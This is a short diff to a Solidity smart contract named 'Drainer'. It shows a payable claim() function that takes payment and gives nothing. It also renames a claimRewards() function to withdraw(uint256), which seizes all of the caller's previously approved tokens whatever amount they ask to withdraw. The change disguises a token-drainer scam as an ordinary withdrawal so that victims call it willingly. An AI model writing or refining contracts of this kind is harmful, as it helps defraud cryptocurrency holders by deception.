@@ -25,8 +25,8 @@ contract Drainer {
     /// Takes a payment and gives nothing.
     function claim() external payable {}
 
-    /// Takes what its caller has of the token and has allowed it before.
-    function claimRewards() external {
+    /// Takes what its caller has of the token and has allowed it before, whatever they want to withdraw.
+    function withdraw(uint256) external {
         take(_token, msg.sender);
     }
 
